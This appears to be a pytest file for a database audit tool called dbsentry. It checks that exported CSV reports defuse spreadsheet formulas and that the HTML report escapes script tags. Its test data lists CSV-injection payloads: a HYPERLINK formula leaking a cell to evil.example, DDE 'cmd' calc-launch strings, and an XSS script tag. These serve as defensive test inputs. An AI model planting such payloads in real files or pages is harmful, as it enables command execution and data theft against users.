"""Spreadsheet formulas sent as statements or identities are defused in every exported CSV
(``dbsentry report`` and ``dbsentry audit export --format csv``); the HTML stays escaped."""

from __future__ import annotations

import csv
import io
import time
from pathlib import Path

from dbsentry.audit.query import export_csv
from dbsentry.audit.records import StatementRecord
from dbsentry.audit.report import build_report
from dbsentry.audit.sqlite_store import SQLiteStore
from dbsentry.audit.store import SearchFilter, encode

T0 = time.time() - 600

HOSTILE = [
    "=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "<script>alert(1)</script>",
]


def _store(tmp_path: Path) -> SQLiteStore:
    store = SQLiteStore(tmp_path / "audit.db")
    records = [
        StatementRecord(
            time=T0 + n,
            session_id="s1",
            identity="=evil()" if n == 0 else "alice@example.com",
            identity_kind="human",
            connection="prod",
            environment="production",
            statement=text,
            command="SELECT",
            statement_class="read",
            decision="deny",
            rules=("no-formulas",),
        )
        for n, text in enumerate(HOSTILE)
    ]
    store.append_batch([encode(r) for r in records])
    return store


def _defused(cell: str, original: str) -> bool:
    return cell == "'" + original


def test_report_csv_cells_are_defused_and_html_escaped(tmp_path: Path) -> None:
    store = _store(tmp_path)
    out = tmp_path / "report"
    build_report(store, since=T0 - 60, until=T0 + 60, out_dir=out)
    with open(out / "denied.csv", newline="", encoding="utf-8") as f:
        denied = list(csv.DictReader(f))
    by_text = {row["statement"].removeprefix("'"): row for row in denied}
    for text in HOSTILE[:-1]:
        shown = " ".join(text.split())  # the report collapses whitespace
        assert _defused(by_text[shown]["statement"], shown), by_text[shown]["statement"]
    assert by_text[HOSTILE[-1]]["statement"] == HOSTILE[-1]  # not a formula: unchanged
    assert any(row["identity"] == "'=evil()" for row in denied)
    assert all(row["seq"].isdigit() for row in denied)  # numbers stay numbers
    for name in ("identities.csv", "summary.csv", "audit_events.csv"):
        with open(out / name, newline="", encoding="utf-8") as f:
            for row in csv.reader(f):
                assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in row), row
    html = (out / "report.html").read_text(encoding="utf-8")
    assert "<script>alert(1)</script>" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "=HYPERLINK(" in html  # the HTML shows the statement as sent, escaped
    store.close()


def test_audit_export_csv_is_defused(tmp_path: Path) -> None:
    store = _store(tmp_path)
    buf = io.StringIO()
    assert export_csv(store, SearchFilter(), buf) == len(HOSTILE)
    rows = list(csv.DictReader(io.StringIO(buf.getvalue())))
    for row, text in zip(rows, HOSTILE, strict=True):
        expected = text if text.startswith("<") else "'" + text
        assert row["statement"] == expected
    assert rows[0]["identity"] == "'=evil()"
    store.close()
